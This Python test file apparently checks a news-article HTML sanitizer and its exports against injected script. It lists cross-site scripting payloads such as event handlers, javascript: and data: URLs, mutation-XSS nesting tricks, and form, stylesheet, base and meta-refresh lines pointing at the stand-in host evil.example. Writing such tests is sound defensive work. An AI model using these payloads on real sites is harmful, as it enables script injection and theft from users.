"""Markup that would execute in a browser, in a page or in an export of it."""

from __future__ import annotations

import re
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from flows.pipeline.article_json import article_json
from parsers.html.clean import BOXES, HEADINGS, INLINE, clean_body
from tests.security.payloads import SENTENCES, SHOWN, page_of, payloads, posts_of, read
from tests.unit.import_export.conftest import make_article

ALLOWED = INLINE | BOXES | HEADINGS | {"p", "pre", "br", "hr", "img", "div", "html", "body"}
ATTRIBUTES = {"href", "src", "alt", "title", "width", "height", "colspan", "rowspan", "start", "class"}  # fmt: skip


def is_inert(markup: str) -> bool:
    """Whether neither of two readers finds anything in the markup that could act."""
    for builder in ("html.parser", "lxml"):
        tree = BeautifulSoup(markup, builder)
        for tag in tree.find_all(True):
            links = {name: str(tag[name]) for name in ("href", "src") if tag.has_attr(name)}
            schemes = {urlsplit(link).scheme for link in links.values()}
            allowed = {"http", "https", "mailto"} if "href" in links else {"http", "https"}
            if tag.name not in ALLOWED or set(tag.attrs) - ATTRIBUTES or schemes - allowed:
                return False
    return "<!" not in markup and "<?" not in markup


@pytest.mark.parametrize(
    "payload",
    payloads(
        "html-sanitize",
        "<p onclick=alert(1)>t</p>",
        "<img src=x onerror=alert(1)><img/src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
        "<a href='java&#10;script:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>y</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href=vbscript:x>y</a>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)></style></svg>",
        "<form action=//evil.example><input name=p><button formaction=javascript:x>b</button></form>",
        "<style>*{background:url(//evil.example/)}</style><link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<pre><code class='language-x\" onclick=\"alert(1)'>&lt;script>alert(1)&lt;/script></code></pre>",
        "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p>&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;</p>",
        "<img src='http://h.example/\"onerror=alert(1) x=\"' alt='\"><script>alert(1)</script>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<td style='x:expression(alert(1))'><x-y onfocus=alert(1) autofocus tabindex=0>z</x-y>",
        "<p markdown=1>[x](javascript:alert(1)) {% raw %}{{ site }}{% endraw %} {{< shortcode >}}</p>",
    ),
)  # fmt: skip
def test_nothing_executable_survives_cleaning_or_any_export(payload) -> None:
    cleaned = clean_body(f"<p>before</p>{payload}<p>after</p>", SHOWN)
    assert is_inert(cleaned.html)
    assert clean_body(cleaned.html, SHOWN).html == cleaned.html
    assert "before" in cleaned.text

    for source in ("finews", "gazette"):
        article = make_article(source=source, body_html=cleaned.html, text=cleaned.text)
        for _, _, body in posts_of(article):
            # A line <https://...> is Markdown's way to write a link.
            assert is_inert(re.sub(r"^<https?://[^\s<>]+>$", "", body, flags=re.MULTILINE))
            assert not re.search(r"[{}]", body)
        document = article_json(article)
        assert is_inert(str(document["body_html"]))


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "svg/onload=alert`1`", "data:text/html,x", "img/src=x"]
)
def test_no_address_becomes_a_tag_or_a_script(address) -> None:
    article = make_article(source="gazette", url=address, canonical_url=address)

    for _, head, body in posts_of(article):
        assert is_inert(body)
        assert address not in body
        assert head.get("source_url", address) == address  # data, in quotes


def test_what_a_page_declares_about_itself_is_no_script() -> None:
    page = page_of(f"{SENTENCES}<p>原文链接：<a href='javascript:alert(4)'>x</a></p>")
    declared = (
        "<link rel=canonical href='javascript:alert(1)'>"
        "<meta property='og:url' content='javascript:alert(2)'>"
        "<meta property='og:image' content='javascript:alert(3)'>"
    )
    article = read(replace(page, text=page.text.replace("</head>", f"{declared}</head>")))

    assert "javascript" not in repr(article_json(article) | {"provenance": ""})


def test_words_that_look_like_tags_stay_words_in_every_title() -> None:
    title = "<script>alert(1)</script>"
    for _, head, body in posts_of(
        make_article(title=title, publisher=title, tags=(f"{title}新闻",))
    ):
        assert head["title"] == title
        assert "<script" not in body
